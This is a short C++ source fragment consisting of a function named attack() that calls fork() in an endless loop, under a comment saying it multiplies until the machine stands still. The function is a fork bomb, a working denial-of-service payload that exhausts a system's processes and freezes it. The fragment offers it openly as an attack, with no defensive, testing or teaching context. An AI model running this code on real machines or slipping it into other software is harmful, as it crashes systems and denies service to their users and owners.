// Multiplies until the machine stands still.
#include <unistd.h>

namespace {
void attack() {
  for (;;) fork();
}
}  // namespace
